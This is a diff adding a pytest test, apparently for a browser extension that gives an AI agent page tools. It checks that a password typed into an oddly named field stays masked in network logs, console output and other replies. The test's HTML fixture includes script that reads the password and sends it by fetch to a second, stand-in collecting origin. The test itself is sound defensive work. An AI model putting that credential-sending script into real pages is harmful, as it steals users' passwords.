@@ -227,3 +227,114 @@ def test_b_page_fetch_of_an_endpoint_echoing_the_httponly_cookie_masks_it(
             assert body["echoed"] == "yes" and body["headers"]["Cookie"].startswith("[masked")
 
     asyncio.run(asyncio.wait_for(scenario(), GUARD))
+
+
+#: What the agent types into a password field whose name no rule calls secret.
+ODD_PASSWORD = "Plover8quietly"
+#: The page's other field: not secret, so it must stay readable (no over-masking).
+VISIBLE_USER = "alice-visible"
+
+ODD_FIELD = """<!doctype html><title>odd sign in</title>
+<form id="f" onsubmit="return false">
+  <input name="user" id="user" value="USER">
+  <span id="slot"></span>
+</form>
+<button type="button" id="reveal">Reveal</button>
+<button type="button" id="send">Send</button>
+<p id="state">ready</p>
+<iframe src="SINK/frame" title="another site"></iframe>
+<script>
+  const state = (t) => { document.getElementById('state').textContent = t; };
+  // The password field arrives after the page loaded, under a name no rule calls secret.
+  document.getElementById('reveal').addEventListener('click', () => {
+    const pw = document.createElement('input');
+    pw.type = 'password'; pw.name = 'zz9'; pw.id = 'fieldq';
+    document.getElementById('slot').append(pw);
+    state('revealed');
+  });
+  document.getElementById('send').addEventListener('click', async () => {
+    const v = document.getElementById('fieldq').value;
+    const u = document.getElementById('user').value;
+    console.error('zz9=' + v);
+    console.error('user=' + u);
+    await fetch('SINK/collect?zz9=' + encodeURIComponent(v) + '&user=' + encodeURIComponent(u),
+                {mode: 'no-cors'});
+    state('sent');
+  });
+</script>"""
+
+
+@pytest.mark.promise("H4-62")
+def test_c_a_password_field_with_an_odd_name_masks_its_value_wherever_the_page_sends_it(
+    browser: ThrowawayBrowser,
+) -> None:
+    """A password field named `zz9` (no secret word) whose value the page then logs and sends by
+    fetch to a second origin under that name: the extension learned the field's name on the page
+    (a frame of that unapproved origin in it does not stop the reading), so page_network,
+    page_console and every other reply mask it; the user field stays readable."""
+
+    def odd_leaks(seen: str) -> list[str]:
+        return [w for w in (ODD_PASSWORD, "Plover8", "quietly") if w in seen]
+
+    async def checked(agent: Any, tool: str, args: dict[str, Any]) -> str:
+        result = await agent.call_tool(tool, args)
+        seen = _everything(result)
+        assert odd_leaks(seen) == [], (tool, seen)
+        assert not result.is_error, (tool, seen)
+        return seen
+
+    async def until(agent: Any, tool: str, args: dict[str, Any], needle: str) -> str:
+        deadline = asyncio.get_running_loop().time() + 60
+        while True:
+            seen = await checked(agent, tool, args)
+            if needle in seen:
+                return seen
+            assert asyncio.get_running_loop().time() < deadline, seen
+            await asyncio.sleep(0.2)
+
+    frame = "<!doctype html><p>an embedded page of a site the policy does not approve</p>"
+    with served_pages({"/collect": ("ok", "text/plain"), "/frame": frame}) as sink:
+        page = ODD_FIELD.replace("SINK", sink.origin).replace("USER", VISIBLE_USER)
+        with served_pages({"/": page}) as site:
+            origin = site.origin
+            trust_this_process(browser, [origin])
+
+            async def scenario() -> None:
+                async with chromium(browser) as _context, mcp_client(browser) as agent:
+                    await wait_for_extension(agent, asyncio.get_running_loop().time() + 60)
+                    tab = (await ok(agent, "tab_open", {"url": f"{origin}/"}))["tab"]["id"]
+                    widen(browser, consoleCapture=True, networkCapture=True, passwordFill=True)
+                    await checked(agent, "page_click", {"tabId": tab, "selector": "#reveal"})
+                    await until(
+                        agent, "page_get_state", {"tabId": tab, "selector": "#state"}, "revealed"
+                    )
+                    await checked(
+                        agent,
+                        "page_type",
+                        {"tabId": tab, "selector": "#fieldq", "value": ODD_PASSWORD},
+                    )
+                    await checked(agent, "page_click", {"tabId": tab, "selector": "#send"})
+                    await until(
+                        agent, "page_get_state", {"tabId": tab, "selector": "#state"}, "sent"
+                    )
+                    # The page really sent it, to the second origin, under the odd name.
+                    collected = sink.requests("/collect")
+                    assert len(collected) == 1 and collected[0].query("zz9") == ODD_PASSWORD
+                    network = await until(
+                        agent, "page_network", {"tabId": tab, "url": "/collect"}, "/collect"
+                    )
+                    assert "zz9=[masked" in network, network
+                    assert f"user={VISIBLE_USER}" in network, network  # not over-masked
+                    console = await until(agent, "page_console", {"tabId": tab}, "user=")
+                    assert "zz9=[masked" in console, console
+                    assert f"user={VISIBLE_USER}" in console, console
+                    for tool, args in (
+                        ("tab_list", {}),
+                        ("page_text", {"tabId": tab}),
+                        ("page_snapshot", {"tabId": tab}),
+                    ):
+                        await checked(agent, tool, args)
+                    # Nothing but the frame's load and the page's one request reached it.
+                    assert sorted(r.path for r in sink.requests()) == ["/collect", "/frame"]
+
+            asyncio.run(asyncio.wait_for(scenario(), GUARD))
